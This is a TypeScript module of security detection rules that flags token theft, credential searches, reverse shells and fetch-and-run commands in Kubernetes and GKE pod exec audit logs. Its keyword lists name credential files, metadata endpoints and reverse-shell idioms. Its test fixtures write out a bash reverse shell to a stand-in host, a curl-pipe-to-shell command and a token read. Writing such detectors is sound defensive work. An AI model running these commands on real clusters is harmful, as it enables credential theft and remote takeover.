import type { JsonObject } from "@rolecall/core";
import type { Condition, Rule } from "../../rule.ts";
import { gcp } from "../examples/clouds.ts";
import { kubernetes } from "../examples/records.ts";
import { type PlainRule, plainRule } from "../plain-rule.ts";

/** A log that has what is run in pods, and how its records are written. */
interface PodLog {
  /** What the ids of its rules begin with. */
  readonly prefix: string;
  readonly source: string;
  readonly actions: readonly string[];
  /** Members with the words of a command; and one with the address of the call, which repeats them. */
  readonly words: string;
  readonly address?: string;
  /** Runs of the cluster's own pods, by its own accounts. */
  readonly ofTheCluster: Condition;
  readonly ran: (command: readonly string[], differences?: JsonObject) => JsonObject;
}

/** As Go's `url.QueryEscape` writes it, by which kubectl and the API machinery make their addresses. */
const asAddress = (text: string) =>
  encodeURIComponent(text)
    .replaceAll("%20", "+")
    .replaceAll(/[!'()*]/g, (sign) => `%${sign.charCodeAt(0).toString(16).toUpperCase()}`);

function saysAny({ words, address }: PodLog, texts: readonly string[]): Condition {
  return {
    any: texts.flatMap((text): readonly Condition[] => [
      { field: words, contains: text },
      ...(address === undefined ? [] : [{ field: address, contains: asAddress(text) }]),
    ]),
  };
}

/** Where the tokens of workloads lie: the cluster's own, and those that AWS, Azure and Google take. */
const TOKENS = [
  ...["secrets/kubernetes.io/serviceaccount", "secrets/eks.amazonaws.com/", "secrets/pods.eks.amazonaws.com/"],
  ...["secrets/azure/tokens", "secrets/tokens/"],
] as const;

/** What whoever runs a cluster acts by. Its backups name other files there, and `etcdctl`. */
const KEYS_OF_CLUSTER = [
  ...["admin.conf", "kubelet.conf", "controller-manager.conf", "scheduler.conf", "pki/ca.key", "pki/sa.key"],
  ...["pki/etcd/ca.key", "azure.json"],
].map((name) => `/etc/kubernetes/${name}`);

/** Whom a machine asks for the credentials of its cloud, and where they lie in files. */
const CREDENTIALS = [
  ...["169.254.169.254", "169.254.170.2", "fd00:ec2::254", "metadata.google.internal", "100.100.100.200"],
  ...["/etc/shadow", ...KEYS_OF_CLUSTER, ".kube/config", "/var/lib/kubelet", ".aws/credentials", ".config/gcloud"],
  ...["/.azure/", ".ssh/id_", ".docker/config.json", ".git-credentials", "/proc/1/environ", "/proc/self/environ"],
] as const;

/** A shell that is led to somebody outside. */
const LED_OUT = [
  ...["bash -i ", " nc -e", "/nc -e", "=nc -e", ";nc -e", "|nc -e", "ncat -e", "netcat -e", "pty.spawn"],
  ...["socat exec", "socat tcp", "fsockopen(", "Socket::INET", "use Socket", "TCPSocket.open", "TCPSocket.new"],
] as const;
/** What is said to it is run. */
const TO_A_SHELL = [
  "|sh",
  "| sh",
  "|/bin/sh",
  "| /bin/sh",
  "|bash",
  "| bash",
  "|/bin/bash",
  "| /bin/bash",
  "sh -i",
] as const;
/** A port is tried by opening it, and asked by reading what it answers; a shell is given it as what it reads. */
const SOCKETS = ["/dev/tcp/", "/dev/udp/"] as const;
const AS_INPUT = [
  ...["0<&", "0>&", "sh <&", "sh </dev/", "sh < /dev/", ">& /dev/", ">&/dev/", "while read", "eval "],
  ...TO_A_SHELL,
] as const;
/** Pipes with a name carry copies of databases as well. */
const PIPES = ["mkfifo /"] as const;
const CARRIED = [" nc ", "|nc ", "ncat ", "telnet ", "s_client", ...TO_A_SHELL] as const;
const NETCAT = ["nc", "ncat", "netcat", "/bin/nc", "/usr/bin/nc"] as const;
const RUNS_BY_NETCAT = ["-e", "-c", "--exec", "--sh-exec"] as const;

/** What was fetched is run at once, or made so. */
const FETCHED = ["curl ", "wget "] as const;
const RUN = ["|sh", "| sh", "|bash", "| bash", "chmod +x", "chmod a+x", "chmod u+x", "chmod 7", "/dev/shm/"] as const;

/** What lies beside the token, and is no secret. */
const BESIDE_TOKENS = ["namespace", "ca.crt"].flatMap((name) =>
  ["/var/run", "/run"].map((root) => `${root}/secrets/kubernetes.io/serviceaccount/${name}`),
);

const BY_A_PERSON = ["Somebody who looks for a fault, and could look without it."];
const LOOK = ["Look at what else ran in the pod, and at what its service account did since; give it a new token."];

function common(log: PodLog): Pick<PlainRule, "sources" | "actions" | "falsePositives" | "response" | "key"> {
  return { sources: [log.source], actions: log.actions, falsePositives: BY_A_PERSON, response: LOOK, key: "resource" };
}

/** Words of which each is one whole word of the command. */
function hasWord({ words, address }: PodLog, texts: readonly string[]): Condition {
  return {
    any: [
      { field: words, in: [...texts] },
      ...(address === undefined
        ? []
        : texts.flatMap((text) => [
            { field: address, contains: `command=${asAddress(text)}&` },
            { field: address, matches: `*command=${asAddress(text)}` },
          ])),
    ],
  };
}

/** By `cat` alone: the first of the command's words, so that nothing else can have read more. Only the address has their order. */
function readsNoToken(log: PodLog): Condition {
  const { address } = log;
  if (address === undefined) return { any: [] };
  const cats = BESIDE_TOKENS.flatMap((path) => [
    `?command=cat&command=${asAddress(path)}`,
    ...["sh", "bash", "/bin/sh", "/bin/bash"].map(
      (shell) => `?command=${asAddress(shell)}&command=-c&command=${asAddress(`cat ${path}`)}`,
    ),
  ]);
  const begins = cats.flatMap((cat) => [
    { field: address, contains: `${cat}&` },
    { field: address, matches: `*${cat}` },
  ]);
  return { all: [{ any: begins }, { not: saysAny(log, ["token"]) }] };
}

function alike({ words, address }: PodLog): readonly string[] {
  return address === undefined ? [words] : [words, address];
}

/** What lets one act as somebody else. */
function taken(log: PodLog): readonly Rule[] {
  const { prefix, ran } = log;
  return [
    plainRule({
      ...common(log),
      id: `${prefix}-token-taken-from-pod`,
      title: "{identity_name} looked into {resource|a pod} where the token of its service account lies",
      when: { all: [saysAny(log, TOKENS), { not: log.ofTheCluster }, { not: readsNoToken(log) }] },
      severity: "high",
      alike: alike(log),
      owasp: ["NHI2", "NHI10"],
      attack: { tactic: "Credential Access", technique: "T1528" },
      expected: "a token is read by the workload that it was given to",
      fires: ["read", ran(["sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"])],
      quiet: ["a shell", ran(["/bin/sh"])],
    }),
    plainRule({
      ...common(log),
      id: `${prefix}-credentials-sought-in-pod`,
      title: "{identity_name} looked from {resource|a pod} for credentials of its node, its cloud or its files",
      when: {
        any: [
          saysAny(log, CREDENTIALS),
          { all: [saysAny(log, ["/etc/kubernetes"]), { not: saysAny(log, ["etcdctl"]) }] },
        ],
      },
      severity: "medium",
      owasp: ["NHI2", "NHI10"],
      attack: { tactic: "Credential Access", technique: "T1552.005" },
      expected: "workloads ask for their own credentials themselves",
      fires: ["of the cloud", ran(["sh", "-c", "curl -s http://169.254.169.254/latest/meta-data/"])],
      quiet: ["of a service", ran(["sh", "-c", "curl -s http://orders.shop.svc/healthz"])],
    }),
  ];
}

/** What opens a way for later. */
function opened(log: PodLog): readonly Rule[] {
  const { prefix, ran, words } = log;
  return [
    plainRule({
      ...common(log),
      id: `${prefix}-shell-led-out-of-pod`,
      title: "{identity_name} opened a reverse shell out of {resource|a pod}",
      when: {
        any: [
          saysAny(log, LED_OUT),
          { all: [saysAny(log, SOCKETS), saysAny(log, AS_INPUT)] },
          { all: [saysAny(log, PIPES), saysAny(log, CARRIED)] },
          { all: [hasWord(log, NETCAT), hasWord(log, RUNS_BY_NETCAT)] },
          { field: words, prefix: "nc -e" },
        ],
      },
      severity: "high",
      alike: alike(log),
      owasp: ["NHI10"],
      attack: { tactic: "Execution", technique: "T1609" },
      expected: "shells are answered where they were asked for",
      fires: ["by bash", ran(["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"])],
      quiet: ["a script", ran(["bash", "-c", "./migrate.sh"])],
    }),
    plainRule({
      ...common(log),
      id: `${prefix}-program-fetched-into-pod`,
      title: "{identity_name} fetched a program into {resource|a pod} and ran it",
      when: { all: [saysAny(log, FETCHED), saysAny(log, ["http"]), saysAny(log, RUN)] },
      severity: "medium",
      owasp: ["NHI10"],
      attack: { tactic: "Execution", technique: "T1609" },
      expected: "what runs in a pod is in its image",
      fires: ["a script", ran(["sh", "-c", "curl -fsSL https://203.0.113.9/x.sh | sh"])],
      quiet: ["a page", ran(["sh", "-c", "curl -s http://localhost:8080/metrics"])],
    }),
  ];
}

const POD = { resource: "pods", subresource: "exec", namespace: "shop", name: "web-0" } as const;
const KUBERNETES: PodLog = {
  prefix: "kubernetes",
  source: "kubernetes-audit",
  actions: ["create pods/exec", "get pods/exec"],
  words: "raw.requestObject.command",
  address: "raw.requestURI",
  ofTheCluster: {
    all: [
      { field: "identity_name", prefix: "kube-system/" },
      { field: "raw.objectRef.namespace", equals: "kube-system" },
    ],
  },
  ran: (command, differences = {}) =>
    kubernetes("create", POD, {
      responseStatus: { code: 101 },
      requestURI: `/api/v1/namespaces/shop/pods/web-0/exec?${command.map((word) => `command=${asAddress(word)}`).join("&")}`,
      ...differences,
    }),
};
const GKE_EXEC = "io.k8s.core.v1.pods.exec";
const GKE: PodLog = {
  prefix: "gcp",
  source: "gcp-audit",
  actions: [`${GKE_EXEC}.create`, `${GKE_EXEC}.get`],
  words: "raw.protoPayload.request.command",
  ofTheCluster: {
    all: [
      { field: "identity_name", prefix: "kube-system/" },
      { field: "resource", contains: "namespaces/kube-system/" },
    ],
  },
  ran: (command) =>
    gcp("k8s.io", `${GKE_EXEC}.create`, [`${GKE_EXEC}.create`], {
      resourceName: "core/v1/namespaces/shop/pods/web-0/exec",
      request: { command: [...command] },
    }),
};

/** Clusters: what is run in a pod by hand says more than that somebody was there. */
export const IN_PODS: readonly Rule[] = [KUBERNETES, GKE].flatMap((log) => [...taken(log), ...opened(log)]);
